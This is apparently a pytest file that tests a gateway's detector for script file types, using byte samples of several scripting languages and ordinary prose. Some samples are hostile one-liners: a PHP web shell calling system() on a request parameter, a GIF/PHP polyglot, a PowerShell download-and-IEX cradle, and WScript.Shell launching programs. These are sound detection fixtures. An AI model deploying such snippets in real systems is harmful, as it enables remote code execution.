"""Scripts, and prose that talks about them."""

import pytest

from gateway.filetype.scripts import script_type

SCRIPTS = {
    "text/x-shellscript": [
        b"#!/bin/sh\necho x\n",
        b"#! /usr/bin/env bash\n",
        b"D=/a\nif [ -d $D ]; then\nrm -rf $D\nfi\n",
    ],
    "text/x-python": [
        b"#!/usr/bin/env -S python3 -u\n",
        b"import os\nfrom base64 import b64decode\n\ndef main():\n    os.system('x')\n",
    ],
    "text/x-perl": [b"#!/usr/bin/perl -w\n"],
    "text/x-php": [b"<?php system($_GET['c']); ?>", b"GIF89a\n<?php echo 1;"],
    "text/x-script": [b"#!/opt/strange\n", b"<%@ Language=VBScript %>", b"#@~^ZAAAAA==\\kT$K6,J"],
    "text/x-msdos-batch": [
        b"@echo off\r\nstart calc\r\n",
        b"\r\n:: note\r\n@ECHO OFF\r\n",
        b"set x=1\r\nif exist %TEMP%\\a.exe del /q a\r\n",
    ],
    "text/vbscript": [
        b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
        b"Dim a\r\nOn Error Resume Next\r\nSub x()\r\nEnd Sub\r\n",
    ],
    "text/javascript": [
        b'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n',
        b"(function(){var a=['x'];eval(String.fromCharCode(97));})();",
        b"'use strict';\nconst fs = require('fs');\nmodule.exports = x => {\n  return 1;\n};\n",
    ],
    "text/x-powershell": [
        b"$c = New-Object Net.WebClient\n$c.DownloadString('http://x') | IEX\n",
        b"param(\n  [string]$Name\n)\nWrite-Host $Name\nInvoke-Expression $Name\n",
    ],
}  # fmt: skip
PROSE = [
    b"Please run the function today and let me know.\nBest regards\n",
    b"Set the table, if you please; then dim the lights.\nSub: nothing\n",
    b"Hello Bob,\n\nif you want a listing then type this:\n\n    echo hello\n\nIt prints hello.\nThe rest of this\n",
    b"This letter is about the weather, which is fine,\nand about the garden, which is not.\n",
    b"Import duties: see below.\nFrom Monday to Friday import costs 5 %.\nElse: nothing.\n",
    b"1. x = 5\n2. y = 7\n3. therefore x + y = 12\n",
    b"name=value pairs are easy\nto read, said Anna;\nBob said: no.\n",
    b'{"name": "value", "list": [1, 2, 3]}\n',
    b"a,b,c\n1,2,3\n4,5,6\n",
    b"# Title\n\nSome *markdown* with `code`, and a [link](http://example.org).\n\n- one\n- two\n",
    b"diff --git a/x.py b/x.py\n@@ -1 +1 @@\n-old line\n+new line\n context\n",
]


@pytest.mark.parametrize(("media_type", "script"), [(kind, one) for kind, many in SCRIPTS.items() for one in many])
def test_script_is_named(media_type: str, script: bytes) -> None:
    """Each language is told by what only its lines look like."""
    assert script_type(script) == media_type


@pytest.mark.parametrize("prose", PROSE)
def test_prose_is_no_script(prose: bytes) -> None:
    """Letters, lists, tables and quoted commands stay text."""
    assert script_type(prose) == ""
